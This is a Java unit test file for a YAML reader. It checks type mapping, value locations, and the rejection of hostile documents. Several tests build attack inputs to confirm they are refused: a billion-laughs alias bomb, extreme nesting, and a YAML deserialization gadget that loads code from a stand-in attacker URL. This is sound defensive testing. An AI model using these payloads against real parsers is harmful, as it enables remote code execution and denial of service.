package io.github.councilplan.schema.read;

import io.github.councilplan.schema.Problem;
import io.github.councilplan.schema.ProblemCode;
import io.github.councilplan.schema.ValidationLimits;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.JsonNodeFactory;

/**
 * {@link YamlTreeReader}: the tree it builds is the one the equivalent JSON gives, every value is
 * located, and every fault, however hostile the document, ends in a located
 * {@link DocumentProblemException} with the expected code.
 */
class YamlTreeReaderTest {
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** A bound on the tests of hostile documents, only so that a regression fails rather than hangs. */
    private static final Duration HANG_GUARD = Duration.ofSeconds(60);

    private final YamlTreeReader reader = new YamlTreeReader(ValidationLimits.defaults());

    private LocatedTree read(String yaml) {
        return reader.read(yaml.getBytes(StandardCharsets.UTF_8));
    }

    private JsonNode json(String json) {
        return new JsonTreeReader(ValidationLimits.defaults()).read(json.getBytes(StandardCharsets.UTF_8)).root();
    }

    private Problem problem(String yaml) {
        return problem(reader, yaml.getBytes(StandardCharsets.UTF_8));
    }

    private static Problem problem(YamlTreeReader reader, byte[] yaml) {
        DocumentProblemException thrown = catchThrowableOfType(DocumentProblemException.class, () -> reader.read(yaml));
        assertThat(thrown).as("a located problem").isNotNull();
        return thrown.problem();
    }

    private static String at(Problem problem) {
        return problem.code() + " " + problem.line() + ":" + problem.column();
    }

    @Test
    void blockMappingsAndSequencesGiveTheTreeOfTheEquivalentJson() {
        JsonNode yaml = read("a: 1\nb:\n  - x\n  - {c: true, d: null}\n").root();

        assertThat(yaml).isEqualTo(json("{\"a\": 1, \"b\": [\"x\", {\"c\": true, \"d\": null}]}"));
    }

    @Test
    void jsonTextReadAsYamlGivesTheSameTreeAsTheJsonReader() {
        String text = "{\"a\": [1, -2, 2147483648, 12345678901234567890, 1.50, 1E+3, -0.0, true, false, null],"
                + " \"b\": {\"c\": \"\\u00e9\\t\\\"\"}, \"d\": []}";

        assertThat(read(text).root()).isEqualTo(json(text));
    }

    @Test
    void integersAreHeldAsTheSmallestOfIntLongAndBigIntegerAsInJson() {
        JsonNode tree = read("[2147483647, 2147483648, 9223372036854775808]").root();

        assertThat(tree.get(0).isInt()).isTrue();
        assertThat(tree.get(1).isLong()).isTrue();
        assertThat(tree.get(2).bigIntegerValue()).isEqualTo(new BigInteger("9223372036854775808"));
        assertThat(tree.get(2).isBigInteger()).isTrue();
    }

    @Test
    void decimalsAreExactBigDecimalsKeepingTheirScale() {
        JsonNode tree = read("[1.50, 0.1, 1e-3, 124.5]").root();

        assertThat(tree.get(0).decimalValue()).isEqualTo(new BigDecimal("1.50"));
        assertThat(tree.get(1).decimalValue()).isEqualTo(new BigDecimal("0.1"));
        assertThat(tree.get(2).decimalValue()).isEqualTo(new BigDecimal("1e-3"));
        assertThat(tree.get(3).isBigDecimal()).isTrue();
    }

    @Test
    void coreSchemaIntegerFormsAreIntegers() {
        JsonNode tree = read("[0x1F, 0o17, +3, 007]").root();

        assertThat(tree).isEqualTo(json("[31, 15, 3, 7]"));
    }

    @Test
    void coreSchemaNullAndBooleanFormsAreNullAndBooleans() {
        JsonNode tree = read("[null, Null, NULL, ~, '', true, True, TRUE, false, False, FALSE]").root();

        assertThat(tree).isEqualTo(json("[null, null, null, null, \"\", true, true, true, false, false, false]"));
    }

    @Test
    void anEmptyValueIsNull() {
        assertThat(read("a:\nb: 1").root()).isEqualTo(json("{\"a\": null, \"b\": 1}"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"yes", "no", "on", "off", "y", "n", "Yes", "NO", "On", "OFF"})
    void yaml11BooleanWordsStayStrings(String word) {
        JsonNode value = read("a: " + word).root().get("a");

        assertThat(value).isEqualTo(NODES.stringNode(word));
    }

    @Test
    void datesAndTimestampsStayStrings() {
        JsonNode tree = read("[2025-04-01, 2025-04-01T10:00:00Z, 2025/26, 12:30]").root();

        assertThat(tree).isEqualTo(json("[\"2025-04-01\", \"2025-04-01T10:00:00Z\", \"2025/26\", \"12:30\"]"));
    }

    @Test
    void quotedAndBlockScalarsAreAlwaysStrings() {
        JsonNode tree = read("- '2025'\n- \"true\"\n- |\n  1.10\n- >-\n  null\n").root();

        assertThat(tree).isEqualTo(json("[\"2025\", \"true\", \"1.10\\n\", \"null\"]"));
    }

    @Test
    void standardTagsGiveTheirType() {
        JsonNode tree = read("[!!str 2025, !!int '12', !!float 1, !!bool true, !!null ~, !!seq [], !!map {}]").root();

        assertThat(tree).isEqualTo(NODES.arrayNode().add("2025").add(12).add(new BigDecimal("1")).add(true).addNull()
                .add(NODES.arrayNode()).add(NODES.objectNode()));
    }

    @Test
    void mergeKeyIsAnOrdinaryKeyAsInYaml12() {
        assertThat(read("<<: {a: 1}").root()).isEqualTo(json("{\"<<\": {\"a\": 1}}"));
    }

    @Test
    void aliasesAreExpandedIntoCopiesOfTheirAnchoredValue() {
        JsonNode tree = read("a: &list [1, {b: x}]\nc: *list\nd: &s text\ne: *s\n").root();

        assertThat(tree).isEqualTo(json("{\"a\": [1, {\"b\": \"x\"}], \"c\": [1, {\"b\": \"x\"}], "
                + "\"d\": \"text\", \"e\": \"text\"}"));
        assertThat(tree.get("c")).isNotSameAs(tree.get("a"));
    }

    @Test
    void anAliasRefersToTheLatestAnchorOfItsName() {
        JsonNode tree = read("[&a 1, &a 2, *a]").root();

        assertThat(tree).isEqualTo(json("[1, 2, 2]"));
    }

    @Test
    void everyValueIsLocatedAtItsFirstCharacter() {
        LocatedTree tree = read("a: 1\nb:\n  - x\n  - {c: true}\n");

        assertThat(tree.locate("/a")).containsExactly(1, 4);
        assertThat(tree.locate("/b")).containsExactly(3, 3);
        assertThat(tree.locate("/b/0")).containsExactly(3, 5);
        assertThat(tree.locate("/b/1")).containsExactly(4, 5);
        assertThat(tree.locate("/b/1/c")).containsExactly(4, 9);
    }

    @Test
    void aValueFromAnAliasIsLocatedAtTheAlias() {
        LocatedTree tree = read("a: &x {b: 1}\nc: *x\n");

        assertThat(tree.locate("/c")).containsExactly(2, 4);
        assertThat(tree.locate("/c/b")).containsExactly(2, 4);
    }

    @Test
    void escapedPointerTokensAreLocated() {
        LocatedTree tree = read("targets:\n  2025/26 Q1: 5\n  a~b: 6\n");

        assertThat(tree.locate("/targets/2025~126 Q1")).containsExactly(2, 15);
        assertThat(tree.locate("/targets/a~0b")).containsExactly(3, 8);
    }

    @Test
    void duplicateKeyIsLocatedAtTheSecondKey() {
        Problem problem = problem("a: 1\nb:\n  c: 2\n  c: 3\n");

        assertThat(at(problem)).isEqualTo("SYNTAX_DUPLICATE_KEY 4:3");
        assertThat(problem.pointer()).isEqualTo("/b/c");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a: !!java.lang.Object {}", "a: !foo x", "a: !!binary aGk=", "a: !!set {x}",
        "a: !!timestamp 2025-04-01", "a: ! x", "a: !<tag:example.com,2025:x> y"})
    void customTagIsLocatedAtTheTaggedNode(String yaml) {
        Problem problem = problem(yaml);

        assertThat(at(problem)).isEqualTo("SYNTAX_YAML_TAG 1:4");
        assertThat(problem.pointer()).isEqualTo("/a");
    }

    @Test
    void standardTagOnTheWrongKindOfNodeIsATagProblem() {
        assertThat(at(problem("a:\n  b: !!map x\n"))).isEqualTo("SYNTAX_YAML_TAG 2:6");
    }

    @Test
    void scalarTaggedWithAFormItDoesNotHaveIsMalformed() {
        assertThat(at(problem("a: !!int twelve"))).isEqualTo("SYNTAX_MALFORMED 1:4");
    }

    @Test
    void taggedRootIsRefusedBeforeAnythingIsBuilt() {
        Problem problem = problem("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://attacker.invalid/\"]]]]");

        assertThat(at(problem)).isEqualTo("SYNTAX_YAML_TAG 1:1");
    }

    @Test
    void billionLaughsEndsQuicklyAtTheFirstAliasOverTheLimit() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int level = 1; level < 10; level++) {
            yaml.append('a').append(level).append(": &a").append(level).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(9, "*a" + (level - 1)))).append("]\n");
        }
        byte[] bytes = yaml.toString().getBytes(StandardCharsets.UTF_8);

        Problem problem = assertTimeoutPreemptively(HANG_GUARD, () -> problem(reader, bytes));

        assertThat(problem.code()).isEqualTo(ProblemCode.LIMIT_YAML_ALIASES);
        assertThat(problem.line()).isEqualTo(6);
        assertThat(problem.pointer()).startsWith("/a5/");
    }

    @Test
    void aliasExpansionWithinTheLimitIsRead() {
        YamlTreeReader tight = new YamlTreeReader(ValidationLimits.defaults().withMaxAliasExpansion(6));

        JsonNode tree = tight.read("a: &a [1, 2]\nb: [*a, *a]\n".getBytes(StandardCharsets.UTF_8)).root();

        assertThat(tree.get("b")).isEqualTo(json("[[1, 2], [1, 2]]"));
    }

    @Test
    void aliasExpansionOneValueOverTheLimitIsAProblem() {
        YamlTreeReader tight = new YamlTreeReader(ValidationLimits.defaults().withMaxAliasExpansion(5));

        Problem problem = problem(tight, "a: &a [1, 2]\nb: [*a, *a]\n".getBytes(StandardCharsets.UTF_8));

        assertThat(at(problem)).isEqualTo("LIMIT_YAML_ALIASES 2:9");
    }

    @Test
    void recursiveAliasIsMalformed() {
        assertThat(at(problem("a: &a [1, *a]"))).isEqualTo("SYNTAX_MALFORMED 1:11");
    }

    @Test
    void aliasWithoutAnchorIsMalformed() {
        assertThat(at(problem("a: 1\nb: *nowhere\n"))).isEqualTo("SYNTAX_MALFORMED 2:4");
    }

    @Test
    void flowSequenceNested100000DeepEndsAtTheDepthLimit() {
        byte[] yaml = ("[".repeat(100_000) + "]".repeat(100_000)).getBytes(StandardCharsets.UTF_8);

        Problem problem = assertTimeoutPreemptively(HANG_GUARD, () -> problem(reader, yaml));

        assertThat(at(problem)).isEqualTo("LIMIT_NESTING_DEPTH 1:65");
    }

    @Test
    void blockSequenceNested100000DeepEndsAtTheDepthLimit() {
        byte[] yaml = ("- ".repeat(100_000) + "x\n").getBytes(StandardCharsets.UTF_8);

        Problem problem = assertTimeoutPreemptively(HANG_GUARD, () -> problem(reader, yaml));

        assertThat(at(problem)).isEqualTo("LIMIT_NESTING_DEPTH 1:129");
    }

    @Test
    void nestingAtTheDepthLimitIsRead() {
        LocatedTree tree = read("[".repeat(64) + "]".repeat(64));

        assertThat(tree.root().isArray()).isTrue();
    }

    @Test
    void aliasThatWouldNestTooDeepIsADepthProblem() {
        String deep = "[".repeat(40) + "]".repeat(40);
        String yaml = "a: &a " + deep + "\nb: " + "[".repeat(30) + "*a" + "]".repeat(30) + "\n";

        assertThat(at(problem(yaml))).isEqualTo("LIMIT_NESTING_DEPTH 2:34");
    }

    @Test
    void stringOverTheLimitIsAStringLengthProblem() {
        YamlTreeReader tight = new YamlTreeReader(ValidationLimits.defaults().withMaxStringLength(10));

        Problem problem = problem(tight, "a: \"12345678901\"".getBytes(StandardCharsets.UTF_8));

        assertThat(at(problem)).isEqualTo("LIMIT_STRING_LENGTH 1:4");
    }

    @Test
    void keyOverTheStringLimitIsAStringLengthProblem() {
        YamlTreeReader tight = new YamlTreeReader(ValidationLimits.defaults().withMaxStringLength(10));

        Problem problem = problem(tight, "a: {abcdefghijk: 1}".getBytes(StandardCharsets.UTF_8));

        assertThat(at(problem)).isEqualTo("LIMIT_STRING_LENGTH 1:5");
    }

    @Test
    void hugePlainScalarEndsAtTheStringLimitInLinearTime() {
        byte[] yaml = ("a: " + "x".repeat(30_000_000)).getBytes(StandardCharsets.UTF_8);

        Problem problem = assertTimeoutPreemptively(HANG_GUARD, () -> problem(reader, yaml));

        assertThat(problem.code()).isEqualTo(ProblemCode.LIMIT_STRING_LENGTH);
    }

    @Test
    void longKeyOverManyValuesIsReadWithoutAPointerPerValue() {
        String key = "k".repeat(1_000_000);
        byte[] yaml = ("? " + key + "\n: [" + "1, ".repeat(200_000) + "1]\n").getBytes(StandardCharsets.UTF_8);

        LocatedTree tree = assertTimeoutPreemptively(HANG_GUARD, () -> reader.read(yaml));

        assertThat(tree.root().get(key).size()).isEqualTo(200_001);
        assertThat(tree.locate("/" + key + "/200000")).containsExactly(2, 3 + 3 * 200_000 + 1);
    }

    @Test
    void numberLongerThanTheLimitIsANumberLengthProblem() {
        assertThat(at(problem("a: " + "1".repeat(101)))).isEqualTo("LIMIT_NUMBER_LENGTH 1:4");
    }

    @Test
    void numberWithAHugeExponentIsANumberLengthProblem() {
        assertThat(at(problem("a: [1, 1e100000000]"))).isEqualTo("LIMIT_NUMBER_LENGTH 1:8");
    }

    @Test
    void numberOfAsManyDigitsWrittenOutAsTheLimitIsRead() {
        assertThat(read("[1e99, 1e-98]").root()).isEqualTo(json("[1e99, 1e-98]"));
    }

    @Test
    void numberOutOfBigDecimalRangeIsMalformed() {
        assertThat(at(problem("a: 1e99999999999"))).isEqualTo("SYNTAX_MALFORMED 1:4");
    }

    @Test
    void documentOverTheSizeLimitIsADocumentSizeProblem() {
        YamlTreeReader tight = new YamlTreeReader(ValidationLimits.defaults().withMaxDocumentBytes(10));

        Problem problem = problem(tight, "a: 12345678901".getBytes(StandardCharsets.UTF_8));

        assertThat(problem.code()).isEqualTo(ProblemCode.LIMIT_DOCUMENT_SIZE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"a: .nan", "a: .NaN", "a: .inf", "a: -.Inf", "a: +.INF", "a: !!float .nan"})
    void notANumberAndInfinityAreMalformed(String yaml) {
        assertThat(at(problem(yaml))).isEqualTo("SYNTAX_MALFORMED 1:4");
    }

    @ParameterizedTest
    @ValueSource(strings = {"2025: x", "true: x", "null: x", "~: x", "1.5: x", "!!int '7': x"})
    void nonStringKeyIsMalformedAtTheKey(String entry) {
        Problem problem = problem("a:\n  " + entry + "\n");

        assertThat(at(problem)).isEqualTo("SYNTAX_MALFORMED 2:3");
        assertThat(problem.pointer()).isEqualTo("/a");
    }

    @Test
    void emptyKeyIsMalformedAtTheKey() {
        assertThat(at(problem("a: 1\n: x\n"))).isEqualTo("SYNTAX_MALFORMED 2:1");
    }

    @Test
    void collectionKeyIsMalformedAtTheKey() {
        assertThat(at(problem("a: 1\n? [b]\n: c\n"))).isEqualTo("SYNTAX_MALFORMED 2:3");
    }

    @Test
    void quotedNumberKeyIsAString() {
        assertThat(read("\"2025\": x").root()).isEqualTo(json("{\"2025\": \"x\"}"));
    }

    @Test
    void emptyDocumentIsEmpty() {
        assertThat(at(problem(""))).isEqualTo("SYNTAX_EMPTY 1:1");
    }

    @Test
    void documentOfCommentsOnlyIsEmpty() {
        assertThat(at(problem("# a comment\n\n   # another\n"))).isEqualTo("SYNTAX_EMPTY 1:1");
    }

    @Test
    void documentOfAStartMarkerOnlyIsEmpty() {
        assertThat(at(problem("---\n# nothing\n"))).isEqualTo("SYNTAX_EMPTY 1:1");
    }

    @Test
    void secondDocumentIsMalformedAtItsStart() {
        assertThat(at(problem("a: 1\n---\nb: 2\n"))).isEqualTo("SYNTAX_MALFORMED 2:1");
    }

    @Test
    void explicitEndOfTheOnlyDocumentIsRead() {
        assertThat(read("---\na: 1\n...\n").root()).isEqualTo(json("{\"a\": 1}"));
    }

    @Test
    void tabIndentationIsMalformedWhereTheTabIs() {
        assertThat(at(problem("a:\n\tb: 1\n"))).isEqualTo("SYNTAX_MALFORMED 2:1");
    }

    @Test
    void syntaxErrorIsLocatedWhereTheParserFoundIt() {
        assertThat(at(problem("a: [1, 2\nb: 3\n"))).startsWith("SYNTAX_MALFORMED 2:");
    }

    @Test
    void controlCharacterIsMalformedWhereItIs() {
        assertThat(at(problem("a: 1\nb: x\u0007y\n"))).isEqualTo("SYNTAX_MALFORMED 2:5");
    }

    @Test
    void invalidUtf8IsMalformedWhereTheBadByteIs() {
        byte[] yaml = {'a', ':', ' ', '1', '\n', 'b', ':', ' ', (byte) 0xC3, (byte) 0x28};

        assertThat(at(problem(reader, yaml))).isEqualTo("SYNTAX_MALFORMED 2:4");
    }

    @Test
    void unsupportedYamlVersionIsMalformed() {
        assertThat(problem("%YAML 2.0\n---\na: 1\n").code()).isEqualTo(ProblemCode.SYNTAX_MALFORMED);
    }

    @Test
    void utf16AndUtf32AreRecognisedWithOrWithoutAByteOrderMark() {
        Map<String, byte[]> encodings = Map.of(
                "UTF-16BE", "a: é".getBytes(StandardCharsets.UTF_16BE),
                "UTF-16LE with BOM", "\uFEFFa: é".getBytes(StandardCharsets.UTF_16LE),
                "UTF-32LE", "a: é".getBytes(Charset.forName("UTF-32LE")),
                "UTF-8 with BOM", "\uFEFFa: é".getBytes(StandardCharsets.UTF_8));

        encodings.forEach((name, bytes) ->
                assertThat(reader.read(bytes).root()).as(name).isEqualTo(json("{\"a\": \"é\"}")));
    }
}
